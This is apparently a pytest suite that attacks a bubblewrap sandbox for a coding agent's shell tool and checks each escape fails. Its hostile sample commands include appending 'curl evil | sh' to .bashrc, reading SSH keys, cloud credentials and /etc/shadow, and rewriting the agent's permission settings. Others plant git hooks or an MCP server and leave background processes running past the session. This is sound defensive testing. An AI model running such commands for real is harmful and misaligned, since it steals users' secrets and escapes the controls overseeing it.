"""The bubblewrap sandbox, measured by attack: each test tries to get out and checks it did not."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import uuid
from pathlib import Path

import pytest

from codingcode_jupyter.engine.sandbox import CommandSandbox, SandboxUnavailable
from codingcode_jupyter.engine.settings import SandboxSettings
from tests.engine.sandbox_helpers import SECRET, make_sandbox, needs_bwrap, run
from tests.polling import eventually

pytestmark = needs_bwrap


@pytest.fixture
def project(tmp_path: Path) -> Path:
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "src").mkdir()
    (proj / "src" / "app.py").write_text("print('hi')\n")
    return proj


async def test_is_active_and_says_so(sb: CommandSandbox) -> None:
    assert sb.enabled and sb.active and sb.unavailable_reason is None
    assert sb.network == "off"
    assert sb.describe() == "bubblewrap: on (network off) — bubblewrap can create namespaces here"
    argv = sb.argv_for("true", sb.project)
    # A launcher execs bwrap with a clean environment and the seccomp filter on a pipe.
    assert argv[: argv.index(sb.bwrap)][1:4] == ["-I", "-S", "-c"] and argv[-2:] == ["sh", "true"]
    assert argv[-3].startswith('bash -c "$1"')  # the command, then the half second what it left running gets
    assert "--unshare-all" in argv and "--die-with-parent" in argv and "--new-session" in argv
    assert "--seccomp" in argv


async def test_project_is_writable(sb: CommandSandbox, project: Path) -> None:
    result = await run(sb, "echo made > src/new.txt && cat src/app.py", cwd=project)
    assert result.returncode == 0, result.err
    assert (project / "src" / "new.txt").read_text() == "made\n"
    assert "print('hi')" in result.out


async def test_writing_outside_the_project_fails(sb: CommandSandbox, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    result = await run(sb, f"echo pwned > {outside}; echo pwned > /usr/local/pwned; echo pwned > /etc/pwned")
    assert not outside.exists()  # /tmp inside is private: the write never reaches the host
    assert not Path("/usr/local/pwned").exists() and not Path("/etc/pwned").exists()
    assert "Read-only file system" in result.err


async def test_writing_bashrc_fails(sb: CommandSandbox, home: Path) -> None:
    result = await run(sb, f"echo 'curl evil | sh' >> {home}/.bashrc; echo rc=$?; : >> ~/.bashrc; echo rc=$?")
    assert result.out.split() == ["rc=1", "rc=1"], result
    assert (home / ".bashrc").read_text() == "# original\n"


async def test_reading_ssh_key_and_shadow_fails(sb: CommandSandbox, home: Path) -> None:
    result = await run(
        sb,
        f"cat {home}/.ssh/id_rsa {home}/.aws/credentials {home}/.config/gcloud/token; ls -A {home}/.ssh; "
        "cat /etc/shadow",
    )
    assert SECRET not in result.out
    assert "root:" not in result.out
    assert "id_rsa" not in result.out
    # The key is absent (an empty directory in its place); /etc/shadow reads as an empty file.
    assert f"{home}/.ssh/id_rsa: " in result.err


async def test_control_secrets_are_readable_when_not_masked(project: Path, home: Path, tmp_path: Path) -> None:
    # The same reads with another home masked: they succeed, so the masks are what blocks them.
    sandbox = make_sandbox(project, tmp_path)
    try:
        result = await run(sandbox, f"cat {home}/.ssh/id_rsa")
        assert SECRET in result.out
    finally:
        await sandbox.aclose()


async def test_masked_secret_directory_is_not_writable(sb: CommandSandbox, home: Path) -> None:
    result = await run(sb, f"echo key > {home}/.ssh/authorized_keys")
    assert result.returncode != 0
    assert not (home / ".ssh" / "authorized_keys").exists()


async def test_symlink_in_project_does_not_reach_a_secret(sb: CommandSandbox, project: Path, home: Path) -> None:
    (project / "key").symlink_to(home / ".ssh" / "id_rsa")
    (project / "shadow").symlink_to("/etc/shadow")
    (project / "sshdir").symlink_to(home / ".ssh")
    result = await run(sb, "cat key; cat shadow; ls -A sshdir; cat sshdir/id_rsa")
    assert SECRET not in result.out and "root:" not in result.out and "id_rsa" not in result.out
    assert result.returncode != 0
    # The same link works outside the sandbox: the test would notice a broken fixture.
    assert (project / "key").read_text() == SECRET


async def test_project_env_files_are_hidden_unless_allowed(project: Path, home: Path) -> None:
    (project / ".env").write_text(f"API_KEY={SECRET}\n")
    (project / ".env.example").write_text("API_KEY=changeme\n")
    (project / "src" / ".env.local").write_text(f"TOKEN={SECRET}\n")
    sandbox = CommandSandbox.create(project, SandboxSettings(), home=home, allowed_env_files=[".env.example"])
    try:
        result = await run(sandbox, "cat .env; cat src/.env.local; cat .env.example")
        assert SECRET not in result.out
        assert "API_KEY=changeme" in result.out
        # A .env file created after the sandbox was made is hidden from the next command too.
        (project / "src" / ".env.prod").write_text(f"X={SECRET}\n")
        assert SECRET not in (await run(sandbox, "cat src/.env.prod")).out
    finally:
        await sandbox.aclose()


async def test_rewriting_local_settings_fails(sb: CommandSandbox, project: Path) -> None:
    settings = project / ".codingcode" / "settings.local.json"
    settings.parent.mkdir()
    settings.write_text('{"permissions": {"allow": []}}')
    attacks = [
        """echo '{"permissions": {"allow": ["execute_command(*)"]}}' > .codingcode/settings.local.json""",
        "rm -f .codingcode/settings.local.json",
        "mv .codingcode .cc-old && mkdir .codingcode && echo '{}' > .codingcode/settings.local.json",
        "rm -rf .codingcode",
        "echo '{}' > .codingcode/settings.json",
    ]
    for attack in attacks:
        await run(sb, attack)
        assert settings.read_text() == '{"permissions": {"allow": []}}', attack
        assert not (project / ".codingcode" / "settings.json").exists(), attack


async def test_missing_protected_paths_cannot_be_created(sb: CommandSandbox, project: Path) -> None:
    result = await run(
        sb,
        "mkdir -p .codingcode && echo '{}' > .codingcode/settings.local.json; "
        "echo '{\"mcpServers\": {\"x\": {\"command\": \"evil\"}}}' > .mcp.json; "
        "git init -q . ; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; "
        "echo 'gitdir: /tmp/x' > .git",
    )
    assert result.returncode != 0
    assert not (project / ".codingcode" / "settings.local.json").exists()
    assert not (project / ".mcp.json").exists() or (project / ".mcp.json").read_text() == ""
    assert not (project / ".git" / "hooks").exists()
    assert not (project / ".git").is_file()
    await sb.aclose()
    # The placeholders that made this possible are gone once the session ends.
    assert sorted(p.name for p in project.iterdir()) == ["src"]


async def test_git_directory_is_read_only_by_default(sb: CommandSandbox, project: Path, tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    config = (project / ".git" / "config").read_text()
    evil = tmp_path / "evil"
    result = await run(
        sb,
        "echo evil > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; "
        f"echo {evil} > .git/commondir; mv .git .git-old; rm -rf .git",
    )
    assert result.returncode != 0
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert not (project / ".git" / "commondir").exists()
    assert (project / ".git" / "config").read_text() == config


async def test_allow_write_git_keeps_hooks_and_config_protected(project: Path, home: Path) -> None:
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    config = (project / ".git" / "config").read_text()
    sandbox = make_sandbox(project, home, filesystem={"allowWrite": [".git"]})
    try:
        ok = await run(
            sandbox,
            "git -c user.name=t -c user.email=t@t add src && git -c user.name=t -c user.email=t@t commit -qm one && "
            "git log --oneline | wc -l",
        )
        assert ok.returncode == 0, ok.err
        assert ok.out.strip() == "1"
        bad = await run(sandbox, "echo evil > .git/hooks/pre-commit; echo '[core] x = y' >> .git/config; mv .git .g")
        assert bad.returncode != 0
        assert not (project / ".git" / "hooks" / "pre-commit").exists()
        assert (project / ".git" / "config").read_text() == config
        assert (project / ".git").is_dir()
    finally:
        await sandbox.aclose()


async def test_settings_deny_read_deny_write_allow_write(project: Path, home: Path, tmp_path: Path) -> None:
    (project / "private").mkdir()
    (project / "private" / "notes.txt").write_text(SECRET)
    (project / "locked.txt").write_text("keep\n")
    extra = tmp_path / "cache"
    extra.mkdir()
    sandbox = make_sandbox(
        project, home, filesystem={"denyRead": ["private"], "denyWrite": ["locked.txt", "later.txt"],
                                   "allowWrite": [str(extra)]},
    )  # fmt: skip
    try:
        result = await run(
            sandbox,
            f"cat private/notes.txt; echo x > locked.txt; echo x > later.txt; echo ok > {extra}/out; echo done",
        )
        assert SECRET not in result.out and "done" in result.out
        assert (project / "locked.txt").read_text() == "keep\n"
        assert not (project / "later.txt").exists() or (project / "later.txt").read_text() == ""
        assert (extra / "out").read_text() == "ok\n"
    finally:
        await sandbox.aclose()


async def test_no_network(sb: CommandSandbox) -> None:
    server = await asyncio.start_server(lambda r, w: w.close(), "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        result = await run(sb, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")
        assert "connected" not in result.out
        assert result.returncode != 0
    finally:
        server.close()


async def test_no_capabilities_no_new_privileges_own_pid_namespace(sb: CommandSandbox) -> None:
    result = await run(
        sb,
        "grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status; umount /etc/shadow && echo UNMOUNTED; "
        "mount -o remount,rw / && echo REMOUNTED; ls /proc | grep -c '^[0-9]'",
    )
    assert "CapEff:\t0000000000000000" in result.out
    assert "CapPrm:\t0000000000000000" in result.out
    assert "NoNewPrivs:\t1" in result.out
    assert "UNMOUNTED" not in result.out and "REMOUNTED" not in result.out
    # Only the sandbox's own few processes are visible, not the host's.
    assert int(result.out.split()[-1]) < 10


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    if token.encode() in handle.read():
                        found.append(int(entry))
            except OSError:
                continue
    return found


async def _gone(token: str, within: float = 3.0) -> bool:
    return await eventually(lambda: not _processes_with(token), within, f"the processes of {token} to be gone")


async def test_background_process_dies_with_the_command(sb: CommandSandbox, project: Path) -> None:
    token = f"31.{uuid.uuid4().int % 10**8}"
    result = await run(sb, f"(sleep {token}; echo late > {project}/late.txt) & disown; setsid sleep {token} & echo started")
    assert "started" in result.out
    assert await _gone(token), "a background process outlived the sandboxed command"
    assert not (project / "late.txt").exists()


async def test_timeout_kills_everything(sb: CommandSandbox) -> None:
    token = f"32.{uuid.uuid4().int % 10**8}"
    proc = await asyncio.create_subprocess_exec(
        *sb.argv_for(f"sleep {token} & setsid sleep {token} & sleep {token}", sb.project),
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    # Wait for all three to start (bwrap takes a while on a loaded machine: 2 s was not always enough).
    await eventually(lambda: len(_processes_with(token)) >= 3, 15, "the three sleeps to start")
    os.killpg(proc.pid, signal.SIGKILL)  # what execute_command does on timeout or cancel
    await proc.wait()
    assert await _gone(token), "processes survived the timeout kill"


async def test_only_allowlisted_environment_is_passed(project: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    monkeypatch.setenv("CODINGCODE_UNLISTED", SECRET)
    monkeypatch.setenv("CODINGCODE_LISTED", "visible")
    monkeypatch.setenv("NODE_OPTIONS_TEST", "by-prefix")
    sandbox = make_sandbox(project, home, env=["CODINGCODE_LISTED", "NODE_*"])
    try:
        result = await run(sandbox, "env")
    finally:
        await sandbox.aclose()
    assert SECRET not in result.out
    assert "CODINGCODE_LISTED=visible" in result.out and "NODE_OPTIONS_TEST=by-prefix" in result.out


async def test_project_under_tmp_and_cwd_in_subdirectory(sb: CommandSandbox, project: Path) -> None:
    assert str(project).startswith("/tmp")  # the mount-order trap: a tmpfs on /tmp after the project bind hides it
    result = await run(sb, "pwd; echo ok > here.txt", cwd=project / "src")
    assert result.out.strip().splitlines()[0] == str(project / "src")
    assert (project / "src" / "here.txt").exists()


async def test_stdio_server_argv_can_be_wrapped(sb: CommandSandbox, project: Path) -> None:
    argv = sb.wrap(["python3", "-c", "import sys; print(sys.argv[1])", "a b"], project)
    done = subprocess.run(argv, capture_output=True, text=True, timeout=20)
    assert done.stdout == "a b\n"


async def test_wrapped_server_gets_the_variables_it_names(sb: CommandSandbox, project: Path) -> None:
    # As an MCP server's "env" entry: those variables of the spawn environment, and no others.
    env = {**os.environ, "SERVER_SETTING": "given", "OTHER_SETTING": SECRET}
    printenv = ["sh", "-c", "echo setting=$SERVER_SETTING other=$OTHER_SETTING"]
    named = subprocess.run(sb.wrap(printenv, project, pass_env=["SERVER_SETTING"]), env=env,
                           capture_output=True, text=True, timeout=20)  # fmt: skip
    assert named.stdout == "setting=given other=\n", named.stderr
    unnamed = subprocess.run(sb.wrap(printenv, project), env=env, capture_output=True, text=True, timeout=20)
    assert unnamed.stdout == "setting= other=\n", unnamed.stderr
    with pytest.raises(ValueError, match="FOO,BAR"):
        sb.wrap(printenv, project, pass_env=["FOO,BAR"])


# ----- failing closed -------------------------------------------------------------------------


def test_missing_bwrap_is_inactive_with_a_reason(tmp_path: Path) -> None:
    sandbox = CommandSandbox.create(tmp_path, SandboxSettings(backend="bwrap"), bwrap=str(tmp_path / "no" / "bwrap"))
    assert sandbox.enabled and not sandbox.active
    assert "bubblewrap not found" in (sandbox.unavailable_reason or "")
    assert "asks once how to run such commands this session" in sandbox.describe()
    assert "UNSANDBOXED" in sandbox.card_note()
    with pytest.raises(SandboxUnavailable, match="bubblewrap not found"):
        sandbox.argv_for("true", tmp_path)


def test_broken_bwrap_is_inactive(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    sandbox = CommandSandbox.create(tmp_path, SandboxSettings(failIfUnavailable=True, backend="bwrap"), bwrap=str(fake))
    assert not sandbox.active
    assert "No permissions to create new namespace" in (sandbox.unavailable_reason or "")
    assert "refused" in sandbox.describe()
    with pytest.raises(SandboxUnavailable):
        sandbox.argv_for("true", tmp_path)


def test_disabled_in_settings(tmp_path: Path) -> None:
    sandbox = CommandSandbox.create(tmp_path, SandboxSettings(enabled=False))
    assert not sandbox.enabled and not sandbox.active and sandbox.unavailable_reason is None
    assert sandbox.describe().startswith("off (disabled")
    with pytest.raises(SandboxUnavailable):
        sandbox.argv_for("true", tmp_path)


def test_bad_allowlist_fails_closed(tmp_path: Path) -> None:
    sandbox = CommandSandbox.create(tmp_path, SandboxSettings.model_validate({"network": {"allowedDomains": ["*"]}}))
    assert not sandbox.active
    assert "allowedDomains" in (sandbox.unavailable_reason or "") and "'*'" in (sandbox.unavailable_reason or "")


# ----- through the real execute_command tool -----------------------------------------------------


async def test_execute_command_tool_runs_confined(sb: CommandSandbox, project: Path, home: Path) -> None:
    from codingcode_jupyter.engine.tools.base import ToolContext
    from codingcode_jupyter.engine.tools.shell import execute_command_tool
    from tests.engine.helpers import make_deps

    tool = execute_command_tool()
    ctx = ToolContext.standalone(project, session_id="s", turn_id=1, deps=make_deps(project, sandbox=sb))
    result = await tool.run({"command": f"echo inside > made.txt; cat {home}/.ssh/id_rsa; echo x >> ~/.bashrc"}, ctx)
    assert (project / "made.txt").read_text() == "inside\n"
    assert SECRET not in result.text_content
    assert "Read-only file system" in result.text_content

    token = f"33.{uuid.uuid4().int % 10**8}"
    timed_out = await tool.run({"command": f"setsid sleep {token} & sleep {token}", "timeout_ms": 500}, ctx)
    assert timed_out.is_error and "timed out" in timed_out.text_content
    assert await _gone(token)
